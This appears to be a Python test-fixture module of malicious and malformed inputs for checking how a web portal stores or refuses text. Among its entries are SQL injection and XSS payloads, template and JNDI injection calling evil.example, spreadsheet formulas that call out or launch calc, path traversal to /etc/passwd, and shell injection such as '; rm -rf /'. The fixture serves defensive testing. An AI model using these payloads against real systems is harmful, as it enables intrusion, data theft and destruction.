"""Texts that break programs: what each does, and what the portal makes of it.

`kept` is what is stored when the text is taken; a text of `NEVER` must be refused wherever a text is stored, with one of
the sentences of its kind. Texts with markup begin with `zzbreak`, by which every page is looked through.
"""

import unicodedata
from dataclasses import dataclass

OURS = "Delete it, or type the text again."
FORMS = "This holds a line break or a character that cannot be seen. Type it instead of pasting."
NULL_IN_FORM = "Null characters are not allowed."
API = "Take out the characters that cannot be stored (NUL or broken Unicode)."
TURNS = "Delete it, or paste the text without formatting."
NUL, HALF, TURN, CONTROL = "nul", "half a character", "turns the writing", "control character"
NEVER = (NUL, HALF, TURN, CONTROL)


@dataclass(frozen=True)
class Text:
    """What is typed, what kind of trouble it is, and what is kept of it."""

    typed: str
    kind: str
    kept: str = ""

    @property
    def never(self):
        return self.kind in NEVER

    @property
    def bad(self):
        """The signs in it that can never be stored."""
        return {sign for sign in self.typed if _is_bad(sign)} if self.never else set()

    @property
    def sentences(self):
        """What a refusal of such a text may say; empty for texts that may be taken."""
        found = {FORMS} if self.never else set()
        if self.kind in {NUL, HALF}:
            found |= {API, f"The text contains a NUL character (U+0000). {OURS}"}
        if self.kind == NUL:
            found |= {f"The text contains a NUL character (U+0000). {OURS}"}
        sign = next((sign for sign in self.typed if _is_bad(sign)), "")
        code = f"U+{ord(sign):04X}" if sign else ""
        if self.kind == HALF:
            found |= {f"The text contains half a character ({code}). {OURS}"}
        if self.kind == CONTROL:
            found |= {f"The text contains a control character ({code}). {OURS}"}
        if self.kind == TURN:
            found |= {f"The text contains an unseen character that turns the direction of writing ({code}). {TURNS}"}
        return found

    def __str__(self):
        return f"{self.kind}: {self.typed[:40]!a}"


def _is_bad(sign):
    return unicodedata.category(sign) in {"Cc", "Cs"} or sign in TURNING


def of(kind, *texts):
    """Texts that are kept as they are, but for spaces around them."""
    return [Text(text, kind, text.strip()) for text in texts]


TURNING = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
CONTROLS = [chr(code) for code in (*range(1, 9), *range(0x0E, 0x1C), 0x1F, 0x7F, 0x80, 0x84, 0x86, 0x90, 0x9F)]
UNSEEN = "\u200b\u200e\u200f\u2060\ufeff\u00ad"
BREAKS = ("\r\n", "\r", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029")
UNSTORABLE = [
    *(Text(text, NUL) for text in ("\x00before", "in \x00 the middle", "at the end\x00", "\x00")),
    *(Text(f"a{half}b", HALF) for half in ("\ud800", "\udbff", "\udc00", "\udfff", "\udc00\ud800")),
    *(Text(f"Safe{sign}txt.exe", TURN) for sign in TURNING),
    *(Text(f"bell{sign}rings", CONTROL) for sign in CONTROLS),
]
CHANGED = [
    *(Text(f"un{sign}seen", "unseen", "unseen") for sign in UNSEEN),
    *(Text(f"first{sign}Bcc: second@evil.example", "line break", "first\nBcc: second@evil.example") for sign in BREAKS),
    Text("e\u0301cole", "composed", "\u00e9cole"),
    Text("\u1112\u1161\u11ab", "composed", "\ud55c"),
    Text("  space around\t", "space", "space around"),
]
WRITING = of(
    "writing",
    *(
        "Heddlu \u0174y\u0177",
        "\u0645\u0631\u062d\u0628\u0627",
        "\u05e9\u05dc\u05d5\u05dd",
        "\u0e2a\u0e27\u0e31\u0e2a\u0e14\u0e35",
    ),
    *(
        "\u4f60\u597d",
        "\ufdfd",
        "\u0130stanbul",
        "stra\u00dfe",
        "\ufb01nd",
        "\uff1cscript\uff1e",
        "p\u0430ypal",
        "\ufffd",
    ),
    *("\U0001f469\u200d\U0001f469\u200d\U0001f467", "\U0001f1ec\U0001f1e7", "\U0001f44d\U0001f3fd", "1\ufe0f\u20e3"),
    *(
        "\U000e0061tag",
        "\ue000",
        "\U0010fffd",
        "\ufdd0x",
        "\uffffx",
        "z" + "\u0335" * 300,
        "\u3000wide\u3000",
        "a\u00a0b",
    ),
)
SQL = of(
    "SQL",
    *("' OR '1'='1", "'; DROP TABLE accounts_user; --", "1); DELETE FROM core_auditevent; --", "' UNION SELECT NULL--"),
    *("admin'--", "\\'; SELECT pg_sleep(9); --", "$$;SELECT 1;$$", "x' AND 1=(SELECT COUNT(*) FROM pg_user)--"),
    *("%' ESCAPE '\\", "_%_%", "\\", "'", '"', "`", "NULL", "E'\\x00'", "1;COPY x TO PROGRAM 'id'", "/**/OR/**/1=1"),
)
MARKUP = of(
    "markup",
    *("zzbreak<script>alert(1)</script>", 'zzbreak"><img src=x onerror=alert(1)>', "zzbreak'><svg onload=alert(1)>"),
    *("zzbreak<svg/onload=alert(1)>", "zzbreak</textarea><script>alert(1)</script>", "zzbreak</title><svg onload=1>"),
    *(
        "zzbreak<iframe srcdoc='<script>1</script>'>",
        'zzbreak" autofocus onfocus=alert(1) x="',
        "zzbreak<!--",
        "zzbreak]]>",
    ),
    *("zzbreak<a href=javascript:alert(1)>x</a>", "zzbreak<style>*{display:none}</style>", "zzbreak<base href=//evil>"),
    *(
        "zzbreak<math><mtext><script>1</script>",
        "zzbreak<form action=//evil><input name=x>",
        "zzbreak<b style=color:red>",
    ),
    *(
        "zzbreak&lt;script&gt;",
        "zzbreak&#x3c;script&#x3e;",
        "zzbreak<meta http-equiv=refresh content=0>",
        "zzbreak<object>",
    ),
    *(
        "zzbreak<ScRiPt>alert(1)</sCrIpT>",
        "zzbreak<img src=x onerror\u00a0=alert(1)>",
        "zzbreak'-alert(1)-'",
        "zzbreak\\u003c",
    ),
    *(
        "javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:x",
        "//evil.example",
        "https://a@evil.example",
    ),
)
TEMPLATES = of(
    "template",
    *(
        "{{7*7}}",
        "{% include '/etc/passwd' %}",
        "{% load x %}",
        "{{ settings.SECRET_KEY }}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
    ),
    *(
        "[[7*7]]",
        "${jndi:ldap://evil.example/a}",
        "{0.__class__}",
        "{}",
        "%s%s%n",
        "%(secret)s",
        "%d",
        "%",
        "$HOME",
        "{{",
    ),
    *(
        '#read("/etc/passwd")',
        '#import "@preview/x"',
        "@label <ref>",
        "$ sum_(i=0)^n i $",
        "*bold*_it_ #set page(width: 1pt)",
    ),
)
FORMULAS = of(
    "formula",
    *("=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example","x")', "\t=1+1"),
    *(
        '=WEBSERVICE("https://evil.example")',
        "=IMPORTXML(1,2)",
        "|calc",
        "\uff1d1+1",
        "-2+3+cmd|'/C calc'!A0",
        '",=1+1',
        ";=1+1",
    ),
)
PLACES = of(
    "place",
    *(
        "../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "/etc/passwd",
        "file:///etc/passwd",
        "\\\\evil\\share",
        "%2e%2e%2f",
        "~root",
    ),
    *(
        "CON",
        "a/b",
        "/proc/self/environ",
        "....//....//etc/passwd",
        "%00",
        "%0d%0aSet-Cookie:x=1",
        "a%0aBcc:x",
        "; rm -rf /",
    ),
    *(
        "$(id)",
        "`id`",
        "| id",
        "&& id",
        "*)(uid=*))(|(uid=*",
        "*",
        "admin)(&)",
        "(&(objectClass=*))",
        "<!ENTITY x SYSTEM 'file:///'>",
    ),
    *(
        "__proto__",
        "constructor",
        "__class__.__mro__",
        'O:8:"stdClass":0:{}',
        "!!python/object/apply:os.system ['id']",
        "[a-z]+(",
    ),
)
NUMBERS = of(
    "number",
    *(
        "NaN",
        "Infinity",
        "-Infinity",
        "1e999",
        "-0",
        "0x10",
        "1_000",
        str(2**31),
        str(2**63),
        str(-(2**63) - 1),
        "9" * 400,
    ),
    *(
        "\u0663",
        "\uff11\uff12",
        "\u00bd",
        "\u00b2",
        "1,000",
        "00",
        "--1",
        "+1",
        "1.0",
        "1e5",
        "-1",
        "0",
        "\u2460",
        "1 000",
        "null",
        "true",
    ),
)
DATES = of(
    "date",
    *(
        "0000-00-00",
        "2024-02-30",
        "9999-12-31",
        "-0001-01-01",
        "10000-01-01",
        "31/02/2024",
        "tomorrow",
        "2024-13-01",
        "24:00",
    ),
    *(
        "\u0662\u0660\u0662\u0664-\u0660\u0661-\u0660\u0661",
        "2024-01-01T00:00:00+99:99",
        "0001-01-01",
        "12/31/1999",
        "25:61",
        "1e9",
    ),
)
LENGTHS = of(
    "length",
    "x" * 301,
    "x" * 5_001,
    "y" * 70_000,
    "word " * 3_000,
    "\U0001f600" * 400,
    " ",
    "\u00a0",
    ".",
    "-",
    "\n" * 3,
)
ALL = [*UNSTORABLE, *CHANGED, *WRITING, *SQL, *MARKUP, *TEMPLATES, *FORMULAS, *PLACES, *NUMBERS, *DATES, *LENGTHS]
KINDS = tuple(dict.fromkeys(text.kind for text in ALL))


def some(key, *, without=()):
    """One text of each kind, other ones for each key (a number), so that all keys together have them all."""
    found = []
    for kind in KINDS:
        of_kind = [text for text in ALL if text.kind == kind]
        if kind not in without:
            found.append(of_kind[key % len(of_kind)])
    return found
